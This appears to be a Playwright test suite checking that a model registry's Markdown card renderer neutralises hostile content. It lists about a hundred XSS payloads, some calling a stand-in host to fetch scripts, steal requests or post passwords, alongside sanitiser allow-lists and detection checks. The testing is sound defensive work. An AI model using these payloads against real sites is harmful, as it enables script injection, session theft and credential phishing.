# SPDX-License-Identifier: Apache-2.0
"""Cards are texts of strangers: whatever stands in one, in a real browser nothing of it runs, nothing is asked of others, and
nothing of the page is taken over. Each attack is a Markdown file of one model and is drawn by what draws cards."""
import re
import urllib.parse

import pytest
from playwright.sync_api import expect

from harness.content import push
from harness.harbor import Harbor
from harness.server import wait_until
from harness.showcase import model, png

EVIL = "https://evil.invalid"
# Each would call alert, set window.ran, or ask for /steal or evil.invalid.
ATTACKS = {
    # scripts
    "script": "<script>alert(1)</script>",
    "script-src": f"<script src={EVIL}/x.js></script>",
    "script-case": "<ScRiPt >alert(1)</sCrIpT >",
    "script-broken": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-slash": "<script/x>alert(1)</script/x>",
    "script-unclosed": "<script>alert(1)",
    "script-in-code": "```html\n<script>alert(1)</script>\n```\n\n</code></pre><script>alert(1)</script>",
    "script-in-table": "|a|b|\n|-|-|\n|<script>alert(1)</script>|x|\n",
    "script-module": "<script type=module>import '/steal'</script>",
    # handlers
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onload": "<img src=figures/dot.png onload=alert(1)>",
    "img-slash": "<img/src=x/onerror=alert(1)>",
    "img-nul": "<img src=x one\0rror=alert(1)>",
    "img-newline": "<img src=x\nonerror\n=\nalert(1)>",
    "img-quotes": "<img src='x' alt='\"><script>alert(1)</script>'>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "focus": "<a href=# onfocus=alert(1) autofocus tabindex=1>x</a><input onfocus=alert(1) autofocus>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "video": f"<video src={EVIL}/v onerror=alert(1) autoplay></video><audio src={EVIL}/a onerror=alert(1)></audio>",
    "video-source": "<video><source onerror=alert(1)></video>",
    "video-poster": f"<video poster={EVIL}/p.png></video>",
    "body-onload": "<body onload=alert(1) onpageshow=alert(1)>",
    "animation": "<style>@keyframes x{}</style><div style='animation-name:x' onanimationstart=alert(1)>x</div>",
    "pointer": "<div onpointerenter=alert(1) style='position:fixed;inset:0;z-index:9999'>x</div>",
    "popover": "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>y</div>",
    "search-element": "<search onfocusin=alert(1)><input autofocus></search>",
    # addresses
    "javascript": "[x](javascript:alert(1)) <a href=javascript:alert(1)>y</a>",
    "javascript-case": "[x](JaVaScRiPt:alert(1))",
    "javascript-entities": "<a href='&#106;&#97;&#118;&#97;script:alert(1)'>x</a> [y](&#x6A;avascript:alert(1))",
    "javascript-control": "<a href='java\tscript:alert(1)'>x</a><a href='java\nscript:alert(1)'>y</a><a href='\x01javascript:alert(1)'>z</a>",
    "javascript-colon": "[x](javascript&colon;alert(1)) [y](javascript&#58;alert(1)) [z](<java script:alert(1)>)",
    "javascript-reference": "[x][r]\n\n[r]: javascript:alert(1)",
    "javascript-autolink": "<javascript:alert(1)>",
    "javascript-img": "![x](javascript:alert(1))",
    "vbscript": "[x](vbscript:msgbox(1)) [y](livescript:x) [z](mocha:x)",
    "data-html": "[x](data:text/html,<script>alert(1)</script>) <a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>y</a>",
    "data-svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=)",
    "blob-file": "[x](blob:https://x/1) [y](file:///etc/passwd) [z](filesystem:x) [w](intent://x#Intent;end) [v](ms-word:x) [u](tel:1)",
    "view-source": "[x](view-source:https://x) [y](about:blank) [z](chrome://settings)",
    "userinfo": f"[x](https://haven@evil.invalid/) [y](//evil.invalid/\\@haven)",
    "attribute-break": "[x](x\"onmouseover=alert(1)) ![y](z\"onerror=alert(1))",
    "title-break": "[x](LICENSE 'a\"onmouseover=\"alert(1)') ![y](figures/dot.png '\"onerror=alert(1) x=\"')",
    "own-origin": "[x](/c/log_out) [y](../../../../c/log_out) <a href=/api/v2.0/users/1?steal>z</a> [w](?tab=versions) [v](\\\\c\\log_out)",
    "own-picture": "![x](/c/log_out) ![y](/api/v2.0/steal) <img src=../../../../../steal> <img src='?steal'>",
    # pictures and things of others
    "picture": f"![x]({EVIL}/x.png) <img src={EVIL}/y.png> <img src=//evil.invalid/z.png>",
    "picture-srcset": f"<img src=x srcset='{EVIL}/x.png 1x'><picture><source srcset={EVIL}/y.png><img src=y></picture>",
    "picture-lowsrc": f"<img lowsrc={EVIL}/x dynsrc={EVIL}/y longdesc={EVIL}/z>",
    "input-image": f"<input type=image src={EVIL}/x.png>",
    "background": f"<table background={EVIL}/x><tr><td background={EVIL}/y>x</td></tr></table>",
    "iframe": f"<iframe src={EVIL}></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "iframe-js": "<iframe src=javascript:alert(1)></iframe><frameset><frame src=javascript:alert(1)></frameset>",
    "object": f"<object data=javascript:alert(1)></object><embed src={EVIL}/x><applet code=x></applet>",
    "portal": f"<portal src={EVIL}></portal><fencedframe></fencedframe><webview src={EVIL}></webview>",
    "link": f"<link rel=stylesheet href={EVIL}/x.css><link rel=prefetch href={EVIL}/y><link rel=icon href={EVIL}/z>",
    "meta": f"<meta http-equiv=refresh content='0;url={EVIL}'><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "base": f"<base href={EVIL}/><base target=_blank>[x](LICENSE)",
    "ping": f"<a href=LICENSE ping={EVIL}/p>x</a>",
    "target": "<a href=LICENSE target=_top download=x.exe>x</a>",
    "manifest": "<html manifest=/steal><head><title>stolen</title></head>",
    # forms
    "form": f"<form action={EVIL} id=f><input name=password type=password><button formaction={EVIL}>Sign in</button></form>",
    "form-outside": "<button form=f formaction=javascript:alert(1)>x</button><input type=submit form=f>",
    "form-isindex": "<isindex action=javascript:alert(1) type=image><keygen><select onchange=alert(1)><option>x</select><textarea>x</textarea>",
    "dialog": "<dialog open>stolen</dialog>",
    # styles
    "style": f"<style>@import '{EVIL}/x.css'; body {{ display: none }}</style>",
    "style-attribute": f"<div style='background:url({EVIL}/x);position:fixed;inset:0'>x</div>",
    "style-expression": "<div style='width:expression(alert(1))'>x</div><xss style='behavior:url(x.htc)'>",
    "class": "<div class='modal show alert toasts top' hidden>x</div>",
    "font": f"<font face=x color=red size=99>x</font><center>x</center><bgsound src={EVIL}/x>",
    # clobbering
    "clobber-id": "<a id=body></a><img name=getElementById><a id=location href=x></a><form name=querySelector></form>",
    "clobber-deep": "<form id=config><input name=url value=javascript:alert(1)><input id=attributes></form><a id=config name=url href=x>",
    "clobber-app": "<div id=main></div><div id=app></div><div id=findings></div><a id=card-how-to-use-it>x</a>",
    "clobber-nodes": "<form><input name=nodeName><input name=childNodes><input name=parentNode><input id=removeChild></form>",
    "clobber-heading": "# main\n\n# app\n\n# location\n\n# card-main\n",
    "is-slot": "<div is=x-y slot=z part=w contenteditable tabindex=1 accesskey=x inert>x</div><slot></slot>",
    "shadow": "<div><template shadowrootmode=open><script>alert(1)</script><img src=x onerror=alert(1)></template></div>",
    # what is read differently the second time
    "svg-script": "<svg><script>alert(1)</script></svg><svg><script href='data:,alert(1)'/></svg>",
    "svg-onload": "<svg onload=alert(1)><svg/onload=alert(1)>",
    "svg-use": f"<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/><image href={EVIL}/x.png /></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>",
    "svg-foreign": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "svg-style": "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "svg-title": "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "svg-set": "<svg><set attributeName=onload to=alert(1) /><discard onbegin=alert(1)></svg>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "math-href": "<math href=javascript:alert(1)><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "math-annotation": "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "mxss-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mxss-noscript": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "mxss-noembed": "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed><noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
    "mxss-template": "<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>",
    "mxss-xmp": "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"><plaintext><img src=x onerror=alert(1)>",
    "mxss-comment": "<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(1)>--!><![CDATA[><img src=x onerror=alert(1)>]]>",
    "mxss-processing": "<?xml-stylesheet ><img src=x onerror=alert(1)> ?><!DOCTYPE x [<!ENTITY y 'z'>]>",
    "mxss-title": "<title><a title=\"</title><img src=x onerror=alert(1)>\"></title><textarea><a title=\"</textarea><img src=x onerror=alert(1)>\">",
    "mxss-table": "<table><td><svg><desc><table><a><img src=x onerror=alert(1)></table></desc></svg></td></table>",
    "mxss-select": "<select><template><style><!--</style><a rel=\"--></style></template></select><img id='src=x onerror=alert(1)'>\">",
    "mxss-deep": "<div>" * 600 + "<svg><style><a title=\"</style><img src=x onerror=alert(1)>\">" + "</div>" * 600,
    "xlink": "<a xlink:href=javascript:alert(1) xml:base=javascript:>x</a><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    # of Markdown
    "fence-info": "```\"><img src=x onerror=alert(1)>\nx\n```",
    "fence-lang": "```x onmouseover=alert(1) <script>\nx\n```\n\n~~~\"onload=alert(1)\nx\n~~~",
    "heading-html": "# <img src=x onerror=alert(1)> x\n\n## <script>alert(1)</script>",
    "nested-link": "[![x](javascript:alert(1))](javascript:alert(1)) [a [b](javascript:alert(1))](LICENSE)",
    "html-in-link": "[<img src=x onerror=alert(1)>](LICENSE) [x](<LICENSE\"><img src=x onerror=alert(1)>>)",
    "reference-title": "[x][y]\n\n[y]: LICENSE '\"><img src=x onerror=alert(1)>'",
    "autolink": "<https://x/\"onmouseover=alert(1)> https://x/\"onmouseover=alert(1) www.x.y/'onclick=alert(1) x@y.z?<script>",
    "escapes": "\\<script>alert(1)\\</script> &lt;img src=x onerror=alert(1)&gt; \\![x](javascript:alert(1))",
    "list-html": "- x\n  <img src=x onerror=alert(1)>\n- [ ] <script>alert(1)</script>\n- [x] y\n",
    "entities": "&#60;script&#62;alert(1)&#60;/script&#62; &lt;svg onload=alert(1)&gt;",
    "unicode": "＜script＞alert(1)＜/script＞ <ſcript>alert(1)</ſcript> <ımg src=x onerror=alert(1)> \u202Egnp.exe",
    "front-matter": "---\ntitle: <script>alert(1)</script>\n---\n<script>alert(1)</script>",
    "zero-width": "<scr\u200bipt>alert(1)</scr\u200bipt><img src=x on\u00aderror=alert(1)>",
}

# A file with such a byte is no text, and is not drawn; the card has it.
FILES = [name for name, text in ATTACKS.items() if "\0" not in text]

ALLOWED = """a abbr b blockquote br caption code dd del details div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p
 pre q s samp small span strong sub summary sup table tbody td tfoot th thead tr u ul var wbr""".split()
# What is wrong with the nodes that are drawn; run in the page.
LOOK = """([allowed, files]) => {
  const wrong = [];
  const box = document.querySelector('.model-main .markdown');
  if (!box) return ['it is not drawn'];
  for (const n of box.querySelectorAll('*')) {
    const name = n.nodeName.toLowerCase();
    if (!allowed.includes(name) || n.namespaceURI !== 'http://www.w3.org/1999/xhtml') wrong.push('element ' + name);
    if (n.shadowRoot) wrong.push('shadow root');
    for (const a of n.attributes) {
      const v = a.value;
      if (/^on|style|^name$|^form|action|srcset|ping|^is$|^data-|^aria-|^slot$/i.test(a.name)) wrong.push('attribute ' + a.name);
      if (a.name === 'id' && !v.startsWith('card-')) wrong.push('id ' + v);
      if (a.name === 'class' && !['table table-sm', 'table-responsive'].includes(v)) wrong.push('class ' + v);
      if (a.name === 'href' && !(v.startsWith('#card-') || v.startsWith('/-/m/') || /^(https?|mailto):/.test(v))) wrong.push('href ' + v);
      if (a.name === 'href' && /^https?:/.test(v) && !(n.target === '_blank' && n.rel.includes('noopener'))) wrong.push('opener ' + v);
      if (a.name === 'href' && /log_out|users/.test(v)) wrong.push('href ' + v);
      if (a.name === 'src' && !v.startsWith(files)) wrong.push('src ' + v);
      if (a.name === 'target' && v !== '_blank') wrong.push('target ' + v);
    }
  }
  if (window.ran) wrong.push('it ran');
  if (document.title.includes('stolen')) wrong.push('title');
  if (!(document.body instanceof HTMLBodyElement) || typeof document.getElementById !== 'function' ||
      typeof document.querySelector !== 'function' || document.getElementById('main').nodeName !== 'MAIN') wrong.push('clobbered');
  if (document.querySelectorAll('iframe, object, embed, base, meta[http-equiv]').length) wrong.push('element of the page');
  if (getComputedStyle(document.body).display === 'none') wrong.push('style');
  return wrong;
}"""


@pytest.fixture(scope="module")
def cards(haven):
    """A public model whose attacks lie in one file each; its card has all of them."""
    harbor = Harbor(haven.registry())
    harbor.add_project("hostile", public=True)
    files = {f"attacks/{name}.md": text.encode() for name, text in ATTACKS.items()}
    files |= {"README.md": "\n\n".join(ATTACKS.values()).encode(), "LICENSE": b"x", "attacks/LICENSE": b"y",
              "figures/dot.png": png(8, 8, (1, 2, 3)), "attacks/figures/dot.png": png(8, 8, (1, 2, 3)),
              "kept.md": KEPT.encode(), "docs/deep.md": b"[up](../LICENSE) [out](../../LICENSE) ![p](../figures/dot.png) [d](../attacks)"}
    push(harbor.registry, "hostile/cards", *model(files, name="cards"), "v1")
    wait_until(lambda: harbor.json("/projects/hostile/repositories/cards/artifacts/v1/model")["state"] == "read")
    return harbor.json("/projects/hostile/repositories/cards/artifacts/v1")["digest"]


KEPT = f"""# First

[outside](https://example.org/a?b=c#d) and [mail](mailto:a@example.org) and [here](#second-part), https://example.org/bare

## Second *part*

![A dot](figures/dot.png "With a title") ![not there](none.png) ![of others]({EVIL}/x.png)

[![badge]({EVIL}/badge.svg)](https://example.org/badge)

<p align="center"><kbd>Ctrl</kbd> H<sub>2</sub>O <img src="figures/dot.png" width="16" height="99999" alt="small"></p>

<details><summary>More</summary>

| a | b |
|:--|--:|
| 1 | ~~2~~ |

</details>

1. one
2. two
   - [x] done
   - [ ] not done
"""


def go(page, path):
    """To a file without loading the page anew."""
    query = urllib.parse.urlencode({"tab": "files", "path": path})
    page.evaluate("url => { history.pushState(null, '', url); dispatchEvent(new PopStateEvent('popstate')); }", f"/-/m/hostile/cards?{query}")
    expect(page.get_by_label("Path").locator("strong")).to_have_text(path.rsplit("/", 1)[-1])
    expect(page.locator(".model-main .loading")).to_have_count(0)
    page.wait_for_selector(".model-main .markdown > div", state="attached")


def watch(portal):
    """Everything that the page asks for, and every dialog."""
    asked, dialogs = [], []
    portal.page.on("request", lambda r: asked.append(r.url))
    portal.page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    return asked, dialogs


def test_there_are_enough():
    assert len(FILES) >= 60


def test_nothing_of_an_attack_runs(window, cards):
    portal = window()
    asked, dialogs = watch(portal)
    page = portal.open("/m/hostile/cards", tab="files")
    files = f"/api/v2.0/projects/hostile/repositories/cards/artifacts/{urllib.parse.quote(cards, safe='')}/files/"
    wrong = {}
    for name in FILES:
        go(page, f"attacks/{name}.md")
        found = page.evaluate(LOOK, [ALLOWED, files])
        if dialogs:
            found.append("dialog " + dialogs.pop())
        if not page.url.startswith(f"{portal.base}/-/m/hostile/cards?tab=files"):
            found.append("it left for " + page.url)
        if found:
            wrong[name] = found
    assert not wrong
    page.mouse.move(600, 500)
    page.wait_for_timeout(300)
    assert not dialogs
    strange = [u for u in asked if re.search(r"evil|steal|log_out|/x$", u)]
    assert not strange
    # The console is silent (the fixture holds that): not even the policy of the page had to stop anything.


def test_the_second_line_holds_by_itself(window, cards):
    """With a worker that hands on what it is given: the page's own sanitiser sees every attack as it is written."""
    portal = window()
    asked, dialogs = watch(portal)
    page = portal.page
    page.route("**/assets/markdown-*.js", lambda r: r.fulfill(body="onmessage = (e) => postMessage(e.data)", content_type="text/javascript"))
    # The browser tells of what it only read, in a document that is never shown.
    portal.allow("Executing inline event handler violates", "Applying inline style violates", "Refused to apply inline style",
                 "Setting the document's base URI", "TrustedScript")
    portal.open("/m/hostile/cards", tab="files")
    files = f"/api/v2.0/projects/hostile/repositories/cards/artifacts/{urllib.parse.quote(cards, safe='')}/files/"
    wrong = {}
    for name in FILES:
        go(page, f"attacks/{name}.md")
        found = page.evaluate(LOOK, [ALLOWED, files]) + dialogs
        dialogs.clear()
        if found:
            wrong[name] = found
    assert not wrong
    assert not [u for u in asked if re.search(r"evil|steal|log_out|/x$", u)]


def test_all_attacks_at_once_in_a_card(window, cards):
    portal = window()
    asked, dialogs = watch(portal)
    page = portal.open("/m/hostile/cards")
    page.wait_for_selector(".model-main .markdown > div", state="attached")
    portal.settle()
    files = f"/api/v2.0/projects/hostile/repositories/cards/artifacts/{urllib.parse.quote(cards, safe='')}/files/"
    assert page.evaluate(LOOK, [ALLOWED, files]) == []
    assert not dialogs and not [u for u in asked if re.search(r"evil|steal|log_out", u)]


def test_what_stays(window, cards):
    portal = window()
    page = portal.open("/m/hostile/cards", tab="files", path="kept.md")
    card = page.locator(".model-main .markdown")
    expect(card.get_by_role("heading", level=2, name="First")).to_be_visible()
    outside = card.get_by_role("link", name="outside")
    expect(outside).to_have_attribute("href", "https://example.org/a?b=c#d")
    expect(outside).to_have_attribute("target", "_blank")
    expect(outside).to_have_attribute("rel", "noopener noreferrer nofollow ugc")
    expect(card.get_by_role("link", name="mail")).to_have_attribute("href", "mailto:a@example.org")
    expect(card.get_by_role("link", name="https://example.org/bare")).to_be_visible()
    expect(card.get_by_role("link", name="here")).to_have_attribute("href", "#card-second-part")
    expect(card.locator("#card-second-part em")).to_have_text("part")
    dot = card.get_by_role("img", name="A dot")
    assert dot.evaluate("i => i.naturalWidth") == 8 and dot.get_attribute("title") == "With a title"
    expect(card).to_contain_text("not there")
    others = card.get_by_role("link", name="Picture: of others (evil.invalid)")
    expect(others).to_have_attribute("href", f"{EVIL}/x.png")
    expect(card.get_by_role("link", name="Picture: badge (evil.invalid)")).to_have_attribute("href", "https://example.org/badge")
    small = card.get_by_role("img", name="small")
    assert (small.get_attribute("width"), small.get_attribute("height")) == ("16", None)
    expect(card.locator("p[align=center] kbd")).to_have_text("Ctrl")
    card.get_by_text("More", exact=True).click()
    expect(card.locator("td del")).to_have_text("2")
    expect(card.locator("ol li ul")).to_contain_text("☑ done")
    assert portal.axe() == []


def test_addresses_of_files(window, cards):
    page = window().open("/m/hostile/cards", tab="files", path="docs/deep.md", tag="v1")
    card = page.locator(".model-main .markdown")
    expect(card.get_by_role("link", name="up")).to_have_attribute("href", "/-/m/hostile/cards?tag=v1&tab=files&path=LICENSE")
    expect(card.get_by_role("link", name="out")).to_have_count(0)  # it leads out of the model
    expect(card.get_by_role("link", name="d", exact=True)).to_have_attribute("href", "/-/m/hostile/cards?tag=v1&tab=files&dir=attacks")
    assert card.get_by_role("img", name="p").evaluate("i => i.naturalWidth") == 8


@pytest.mark.parametrize("text", ["![" * 30_000, "*a_" * 30_000, "[" * 30_000 + "]" * 30_000, "`" * 1 + "``" * 20_000, "> " * 3_000 + "x",
                                  "<a" * 40_000, "|a" * 10_000 + "\n" + "|-" * 10_000 + "\n", "- " * 4_000 + "x"],
                         ids=["pictures", "emphasis", "brackets", "ticks", "quotes", "tags", "table", "lists"])
def test_texts_that_take_long(window, cards, text):
    """It is drawn, or shown as it is; meanwhile the page answers."""
    portal = window()
    page = portal.page
    page.route("**/additions/readme.md", lambda r: r.fulfill(body=text, content_type="text/markdown"))
    portal.allow("Maximum call stack", "too much recursion")
    page.goto(f"{portal.base}/-/m/hostile/cards")
    expect(page.get_by_role("link", name="Versions")).to_be_visible()
    page.get_by_role("button", name="Language").or_(page.get_by_label("Language")).first.click(timeout=5_000)
    expect(page.locator(".model-main .loading")).to_have_count(0, timeout=25_000)
    shown = page.locator(".model-main .markdown")
    assert len(shown.inner_html()) > len("<div></div>")
